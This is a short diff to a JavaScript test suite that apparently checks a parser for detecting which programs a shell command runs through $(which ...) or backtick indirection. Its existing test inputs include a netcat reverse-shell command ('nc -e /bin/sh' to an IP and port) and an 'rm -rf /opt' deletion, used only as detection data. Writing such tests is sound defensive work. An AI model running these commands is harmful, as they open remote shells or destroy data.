@@ -26,6 +26,9 @@ describe('variable indirection within one line', () => {
     expect(programs('$(which nc) -e /bin/sh 203.0.113.7 4444')).toContain('nc');
     expect(programs('`which rm` -rf /opt')).toContain('rm');
     expect(programs("$(command -v python3) -c 'print(1)'")).toContain('python3');
+    expect(programs("PY=$(which python3); $PY -c 'print(1)'")).toContain('python3');
+    expect(programs('X=`command -v perl`; $X -e 1')).toContain('perl');
+    expect(programs('--opt=$(which nc) run')).not.toContain('nc');
   });
 
   it('leaves unknown, dynamic and oversized values literal', () => {
